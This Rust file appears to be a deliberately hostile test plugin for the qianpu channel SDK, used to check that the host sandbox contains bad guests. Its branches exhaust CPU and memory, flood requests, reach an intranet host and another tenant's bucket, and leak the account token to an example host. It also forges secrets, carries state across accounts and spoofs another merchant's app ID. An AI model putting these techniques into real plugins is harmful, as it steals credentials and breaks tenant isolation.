//! A plugin that does what a plugin must not do, for tests: the account's settings say what.

use qianpu_domain::time::Timestamp;
use qianpu_sdk::crypto::{self, Hash, Key, KeyForm, Piece, Vector};
use qianpu_sdk::*;
use std::sync::Mutex;

struct Hostile;

static INFO: ChannelInfo = ChannelInfo {
    slug: "hostile",
    name_en: "Hostile",
    name_zh: "恶意",
    kinds: &[AccountKind { code: "hostile_account", name_en: "Account", name_zh: "账号" }],
    link_modes: &[LinkMode::Direct],
    app_family: None,
    app_shape: AppShape { style: AppStyle::TicketAndToken, settings: &[], callback: "" },
    push_rules: &[PushRule { mode: LinkMode::Direct, formats: &[PushFormat::Json] }],
    hosts: &[HostName { name: "api", base_url: "https://api.hostile.example.com" }],
    buckets: &[],
};

/// Whose account was seen last: a call must not see what another left behind.
static SEEN: Mutex<String> = Mutex::new(String::new());

impl Channel for Hostile {
    fn info(&self) -> &'static ChannelInfo {
        &INFO
    }
    fn app(&self) -> Option<&dyn AppAuth> {
        None
    }
    fn auth(&self) -> Option<&dyn AccountAuth> {
        Some(self)
    }
    fn webhook(&self) -> Option<&dyn Webhook> {
        Some(self)
    }
    fn sign_in(&self) -> Option<&dyn PersonSignIn> {
        None
    }
    fn account(&self) -> Option<&dyn AccountInfo> {
        Some(self)
    }
    fn catalog(&self) -> Option<&dyn Catalog> {
        None
    }
    fn stock(&self) -> Option<&dyn Stock> {
        None
    }
    fn orders(&self) -> Option<&dyn Orders> {
        None
    }
    fn order_desk(&self) -> Option<&dyn OrderDesk> {
        None
    }
    fn promotions(&self) -> Option<&dyn Promotions> {
        None
    }
    fn fulfilment(&self) -> Option<&dyn Fulfilment> {
        None
    }
    fn reveal(&self) -> Option<&dyn Reveal> {
        None
    }
    fn messaging(&self) -> Option<&dyn Messaging> {
        None
    }
    fn aftersale(&self) -> Option<&dyn Aftersale> {
        None
    }
    fn disputes(&self) -> Option<&dyn Disputes> {
        None
    }
    fn menu(&self) -> Option<&dyn AccountMenu> {
        None
    }
    fn codes(&self) -> Option<&dyn SceneCodes> {
        None
    }
    fn fans(&self) -> Option<&dyn Fans> {
        None
    }
    fn templates(&self) -> Option<&dyn Templates> {
        None
    }
    fn content(&self) -> Option<&dyn Content> {
        None
    }
    fn showcase(&self) -> Option<&dyn Showcase> {
        None
    }
    fn live(&self) -> Option<&dyn Live> {
        None
    }
    fn leads(&self) -> Option<&dyn Leads> {
        None
    }
    fn shop_desk(&self) -> Option<&dyn ShopDesk> {
        None
    }
    fn funds(&self) -> Option<&dyn Funds> {
        None
    }
    fn qualifications(&self) -> Option<&dyn Qualifications> {
        None
    }
    fn guarantees(&self) -> Option<&dyn Guarantees> {
        None
    }
    fn call_quotas(&self) -> Option<&dyn CallQuotas> {
        None
    }
    fn analytics(&self) -> Option<&dyn Analytics> {
        None
    }
    fn affiliate(&self) -> Option<&dyn Affiliate> {
        None
    }
}

fn for_ever() {
    let mut number = 0u64;
    loop {
        number = std::hint::black_box(number.wrapping_add(1));
    }
}

fn deep(level: u64) -> u64 {
    if level == u64::MAX { 0 } else { std::hint::black_box(deep(level + 1)) + 1 }
}

fn get(host: &'static str) -> Request {
    Request::get(host, "/")
}

/// Everything a component may be told about a secret, to look whether the value is in it.
fn ask_about(secret: &Secret<String>) -> String {
    let pieces = [Piece::Secret(secret), Piece::Bytes(b"guess")];
    let key = Key { secret, form: KeyForm::Utf8 };
    format!(
        "{} {:?} {:?}",
        secret.expose(),
        crypto::digest(Hash::Md5, &pieces, true),
        crypto::aes_cbc_open(key, Vector::KeyPrefix, &[0; 16]),
    )
}

impl AccountInfo for Hostile {
    fn profile(&self, cx: &Context<'_>) -> Turn<AccountProfile> {
        let account = cx.account()?;
        let call = |request| Ok(Step::call(request, Vec::new()));
        let mut profile = AccountProfile::default();
        match cx.settings["do"].as_str().unwrap_or_default() {
            "loop" => for_ever(),
            "allocate" => {
                let mut hoard = Vec::new();
                for _ in 0..10_240 {
                    hoard.push(vec![1u8; 1024 * 1024]);
                }
                profile.name = Some(hoard.len().to_string());
            }
            "calls" => {
                profile.name = Some((0..1_000_000).filter(|_| crypto::equal(b"a", b"a")).count().to_string())
            }
            "recurse" => profile.name = Some(deep(0).to_string()),
            "panic" => panic!("the guest panics on purpose"),
            "large" => profile.name = Some("x".repeat(9 * 1024 * 1024)),
            "state" => return Ok(Step::call(get("api"), vec![1; 1024 * 1024])),
            "requests" => {
                let requests = vec![get("api"); 1_000];
                return Ok(Step::Call { requests, parallel: true, state: Vec::new() });
            }
            "elsewhere" => return call(get("intranet")),
            "bucket" => return call(get("api").bucket("not_mine")),
            "path" => return call(Request::get("api", format!("/{}", cx.account_token()?.expose()))),
            "forge" => {
                let forged = format!("qps-{}-app.secret-", cx.nonce);
                return call(get("api").query("stolen", forged));
            }
            "send" => return call(get("api").query("token", cx.account_token()?.expose())),
            "ask" => profile.name = Some(ask_about(cx.account_token()?)),
            "remember" => {
                let mut seen = SEEN.lock().unwrap();
                profile.name = Some(seen.clone());
                *seen = account.external_id.clone();
            }
            other => profile.name = Some(other.to_owned()),
        }
        Ok(Step::Done(profile))
    }
    fn resume_profile(&self, _: &Context<'_>, state: &[u8], answers: &[Answer]) -> Turn<AccountProfile> {
        let body = Answer::only(answers)?.body.clone();
        let name = format!("{} {}", String::from_utf8_lossy(state), String::from_utf8_lossy(&body));
        Ok(Step::Done(AccountProfile { name: Some(name), ..AccountProfile::default() }))
    }
}

impl AccountAuth for Hostile {
    fn refresh(&self, cx: &Context<'_>) -> Turn<TokenSet> {
        let value = match cx.settings["do"].as_str().unwrap_or_default() {
            "invent" => Secret::from("a token that the plugin made up"),
            _ => cx.account_token()?.clone(),
        };
        let access_token = AccessToken { value, expires_at: cx.now };
        Ok(Step::Done(TokenSet { access_token, refresh_token: None }))
    }
    fn resume_refresh(&self, _: &Context<'_>, _: &[u8], answers: &[Answer]) -> Turn<TokenSet> {
        let body: std::collections::BTreeMap<String, String> = Answer::only(answers)?.json()?;
        let value = Secret::new(body.get("access_token").cloned().unwrap_or_default());
        let expires_at = moment(body.get("at"));
        Ok(Step::Done(TokenSet { access_token: AccessToken { value, expires_at }, refresh_token: None }))
    }
}

fn moment(text: Option<&String>) -> Timestamp {
    Timestamp::from_seconds(text.and_then(|text| text.parse().ok()).unwrap_or(0))
}

impl Webhook for Hostile {
    fn verify(&self, push: &RawPush, _: &PushCredentials, now: Timestamp) -> Result<Verified, PushRefusal> {
        match push.body.as_slice() {
            b"loop" => for_ever(),
            b"panic" => panic!("the guest panics on purpose"),
            _ => {}
        }
        let plaintext = push.body.clone();
        let app_id = "another merchant's app".to_owned();
        Ok(Verified { origin: PushOrigin::App, format: PushFormat::Xml, plaintext, app_id, signed_at: now })
    }
    fn decode(&self, _: &Verified) -> Result<Vec<Notice>, ChannelError> {
        Ok(Vec::new())
    }
    fn handshake(&self, push: &RawPush, _: &PushCredentials, _: Timestamp) -> Result<PushReply, PushRefusal> {
        let (status, content_type) = (200, "text/html");
        Ok(PushReply { status, content_type, body: push.body.clone() })
    }
    fn acknowledge(&self, _: &Verified) -> PushReply {
        PushReply { status: 200, content_type: "text/plain", body: vec![b'x'; 1024 * 1024] }
    }
    fn refuse(&self, _: PushRefusal) -> PushReply {
        PushReply { status: 403, content_type: "text/plain", body: Vec::new() }
    }
}

qianpu_guest::export_channel!(Hostile, version = "0.1.0", secret_fields = ["access_token"]);
